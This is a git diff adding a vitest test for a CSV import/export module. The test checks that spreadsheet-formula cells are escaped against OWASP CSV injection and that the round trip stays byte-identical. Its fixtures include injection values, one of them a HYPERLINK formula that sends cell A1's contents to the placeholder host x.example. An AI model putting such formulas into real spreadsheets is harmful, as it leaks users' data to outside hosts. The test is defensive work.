@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync'
 import { sql } from 'kysely'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { loadDemo } from '../../demo/demo.ts'
@@ -9,7 +10,9 @@ import {
   importInto,
   readBundle,
   tableCounts,
+  withCell,
   withoutColumn,
+  withRow,
 } from '../../test/exchange.builders.ts'
 import { createTestDb, type TestDb } from '../../test/test-db.ts'
 import { exchangeEntities } from './exchange.registry.ts'
@@ -137,5 +140,72 @@ describe('instants', () => {
     expect(await exportFrom(b)).toEqual(first)
     const report = await importInto(a, first)
     expect(report.files.find((f) => f.file === 'notes.csv')).toMatchObject({ updated: 0, unchanged: 2 })
+  })
+})
+
+describe('spreadsheet formulas (OWASP CSV injection)', () => {
+  it('a text cell a spreadsheet would run comes out behind one quote, and the round trip stays byte-identical', async () => {
+    await emptyDatabase(a)
+    await emptyDatabase(b)
+    const hyperlink = '=HYPERLINK("http://x.example/?"&A1;"Cliquez")'
+    let bundle = withCell(example, 'structure.csv', 1, 'name', '=Mission Locale')
+    bundle = withCell(bundle, 'persons.csv', 1, 'last_name', hyperlink)
+    bundle = withCell(bundle, 'persons.csv', 1, 'first_name', '@SOMME(A1)')
+    bundle = withCell(bundle, 'persons.csv', 1, 'phone', '+33 6 12 34 56 78')
+    bundle = withCell(bundle, 'persons.csv', 1, 'address', '\t=1+1')
+    // a key and the references to it; a cell already quoted loses exactly one quote
+    bundle = withRow(bundle, 'persons.csv', {
+      external_id: '-P9',
+      last_name: "''=deux",
+      first_name: 'Zoé',
+      sex: 'F',
+      birth_date: '1990-01-01',
+      site_code: 'A-GS',
+    })
+    bundle = withRow(bundle, 'notes.csv', {
+      external_id: '@N9',
+      person_external_id: "'-P9",
+      created_at: '2009-01-01',
+      text: '+ de rendez-vous',
+    })
+    await importInto(a, bundle)
+    const stored = () =>
+      a.kysely
+        .selectFrom('person')
+        .select(['external_id', 'last_name', 'first_name', 'phone', 'address'])
+        .where('external_id', 'in', ['P3-000101', '-P9'])
+        .orderBy('external_id')
+        .execute()
+    expect(await stored()).toEqual([
+      { external_id: '-P9', last_name: "'=deux", first_name: 'Zoé', phone: null, address: null },
+      {
+        external_id: 'P3-000101',
+        last_name: hyperlink,
+        first_name: '@SOMME(A1)',
+        phone: '+33 6 12 34 56 78',
+        address: '\t=1+1',
+      },
+    ])
+
+    const first = await exportFrom(a)
+    expect(first['structure.csv']).toBe("id,name\nml-littoral,'=Mission Locale\n")
+    const persons = parse(first['persons.csv']!, { columns: true }) as Record<string, string>[]
+    expect(persons.find((p) => p.external_id === "'-P9")).toMatchObject({ last_name: "''=deux" })
+    expect(persons.find((p) => p.external_id === 'P3-000101')).toMatchObject({
+      last_name: `'${hyperlink}`,
+      first_name: "'@SOMME(A1)",
+      phone: "'+33 6 12 34 56 78",
+      address: "'\t=1+1",
+    })
+    expect(first['notes.csv']).toContain("'@N9,'-P9,2009-01-01T00:00:00Z,,'+ de rendez-vous")
+    // no cell of the bundle starts as a formula any more (the data set has no negative number)
+    for (const [file, text] of Object.entries(first))
+      for (const row of parse(text) as string[][])
+        for (const cell of row) expect(cell, `${file}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/)
+
+    await importInto(b, first)
+    expect(await exportFrom(b)).toEqual(first)
+    const again = await importInto(a, first)
+    for (const f of again.files) expect(f, f.file).toMatchObject({ inserted: 0, updated: 0 })
   })
 })
